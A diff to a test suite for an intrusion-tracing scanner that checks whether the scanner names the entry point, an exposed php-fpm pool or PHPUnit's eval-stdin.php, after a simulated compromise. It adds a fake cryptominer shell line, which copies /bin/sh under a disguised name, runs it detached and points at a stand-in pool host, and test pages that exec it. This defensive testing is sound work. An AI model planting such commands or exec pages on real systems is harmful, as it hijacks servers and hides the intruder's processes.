@@ -35,6 +35,12 @@ server {{
 SECONDS = "4242"
 """By which the process that stands for the intruder's is told from others."""
 
+MINER = (
+    "cp /bin/sh /var/tmp/sysupdate; nohup setsid /var/tmp/sysupdate -c 'while :; do :; done'"
+    " -o stratum+tcp://192.0.2.9:3333 -u x --donate-level=1 > /dev/null 2>&1 < /dev/null &"
+)
+"""A shell that burns, with the words of a miner: it speaks to nobody."""
+
 
 class Lab(Protocol):
     def run(self, *command: str, check: bool = True, timeout: float = 120) -> Any: ...
@@ -74,6 +80,11 @@ def got(lab: Lab, page: str) -> None:
 def exposed(lab: Lab) -> dict[str, Any]:
     shown = json.loads(lab.davy("scan", "--json").stdout)
     return {one["opening"]: one for one in shown["exposures"] if one["kind"] == "php-fpm"}
+
+
+def incident(lab: Lab) -> Any:
+    (found,) = json.loads(lab.davy("scan", "--json").stdout)["incidents"]
+    return found
 
 
 def sign(kind: str, identity: str) -> Sign:
@@ -155,6 +166,33 @@ def test_what_a_script_starts_is_php_fpm_s_by_descent_and_by_its_control_group(w
     above, group = ancestry(web)
     assert any(program.endswith("/php-fpm8.2") for program in above)
     assert "/php8.2-fpm.service" in group
+
+
+def test_a_pool_that_ran_an_intruder_s_script_is_the_door_by_its_own_line(web: Lab) -> None:
+    listening(web, "listen = 0.0.0.0:9000")
+    web.write(f"{PAGES}/index.php", f"<?php exec({json.dumps(MINER)}); echo 'here';")
+    assert asked(web, "index.php").endswith("here")
+    (line,) = lines_of(web, ACCESS, having="POST")
+    door = incident(web)["door"]
+    assert door["kind"] == "php-fpm"
+    assert door["address"] == "0.0.0.0:9000"
+    assert door["confidence"] > 0.95
+    assert door["evidence"][0] == line
+    assert any("/php8.2-fpm.service" in said for said in door["evidence"])
+    assert any(fix.startswith(f"{POOL}: listen = 127.0.0.1:9000") for fix in door["fix"])
+
+
+def test_a_page_that_ran_what_it_was_sent_is_the_door_and_not_the_web_server(web: Lab) -> None:
+    listening(web, "listen = /run/php/php8.2-fpm.sock")
+    page = "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
+    web.write(f"{PAGES}/{page}", f"<?php exec({json.dumps(MINER)}); // where the real one evaluates php://input\n")
+    got(web, page)
+    (line,) = lines_of(web, "/var/log/nginx/access.log", having="eval-stdin")
+    found = incident(web)
+    door = found["door"]
+    assert door["kind"] == "phpunit"
+    assert door["evidence"][0] == line
+    assert "composer install --no-dev" in door["fix"][0]
 
 
 def test_a_user_agent_that_imitates_lines_gives_nothing(web: Lab) -> None:
